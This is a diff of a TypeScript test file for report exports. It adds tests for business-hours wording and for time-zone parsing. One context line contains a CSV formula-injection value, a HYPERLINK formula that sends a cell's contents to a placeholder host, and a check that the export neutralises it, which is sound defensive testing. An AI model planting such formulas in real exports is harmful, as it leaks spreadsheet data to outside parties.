@@ -9,7 +9,9 @@ import { createTranslator } from '../../i18n';
 import { resultsWords } from '../../i18n/results';
 import { DEFAULT_DUE } from '../../../../shared/domain/inbox/due';
 import { replyRateByLabel, responseTimes, type ResponseEvent } from '../../../../shared/domain/inbox/responseTimes';
-import type { SpeedTables } from './exportReport';
+import { speedHoursKey, type SpeedTables } from './exportReport';
+import type { ResponseReport } from './responseData';
+import { businessHoursOf } from './useBusinessHours';
 
 const w = resultsWords(createTranslator('en').t);
 const funnel: Funnel = { queued: 10, sent: 9, delivered: 7, read: 3, replied: 2, failed: 1, skipped: 0, optedOut: 1 };
@@ -135,6 +137,7 @@ describe('weekly review export', () => {
         times: responseTimes(events, { ...opts, from: earlierFrom, to: weekFrom + 7 * 1440 * MIN }),
         byPeriod: [responseTimes(events, { ...opts, from: weekFrom, to: weekFrom + 7 * 1440 * MIN }), responseTimes(events, { ...opts, from: earlierFrom, to: weekFrom })],
         labels: replyRateByLabel([{ identity: 'a', labels: ['1'], replied: false }]).map((r) => ({ ...r, name: 'Cold' })),
+        hoursSet: false,
       },
       priority: (p) => p.toUpperCase(),
     };
@@ -203,5 +206,27 @@ describe('contact history export', () => {
     expect(lines(csv)).toContain(`t4000,'+1 more please,no,"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
     // Nothing starts a cell with a bare formula character, but for the phone number (exactly E.164).
     for (const line of lines(csv)) expect(line, line).not.toMatch(/(^|,)"?(?!\+[1-9]\d{6,14}(,|$))[=+@]/);
+  });
+});
+
+describe('which hours the response times count, in words', () => {
+  const times = (hours: 'all' | 'business') => ({ hours }) as ResponseReport['times'];
+  it.each([
+    ['business hours counted', { times: times('business'), hoursSet: true }, 'speed.businessHours'],
+    ['hours set, all chosen', { times: times('all'), hoursSet: true }, 'speed.allHoursChosen'],
+    ['no hours set', { times: times('all'), hoursSet: false }, 'speed.allHours'],
+  ] as const)('%s', (_name, r, key) => {
+    expect(speedHoursKey(r)).toBe(key);
+  });
+});
+
+describe('the business hours the results count, from the automation rules', () => {
+  it.each([
+    ['no rules', {}, null],
+    ['hours with open days', { businessHours: { timeZone: 'Asia/Seoul', days: { mon: [['10:00', '19:00']] } } }, 'Asia/Seoul'],
+    ['hours with no open range on any day say nothing', { businessHours: { timeZone: 'Asia/Seoul', days: { mon: [] } } }, null],
+    ['a damaged set counts as none', { businessHours: { timeZone: 'Nowhere/City', days: { mon: [['10:00', '19:00']] } } }, null],
+  ] as const)('%s', (_name, rules, zone) => {
+    expect(businessHoursOf(rules)?.timeZone ?? null).toBe(zone);
   });
 });
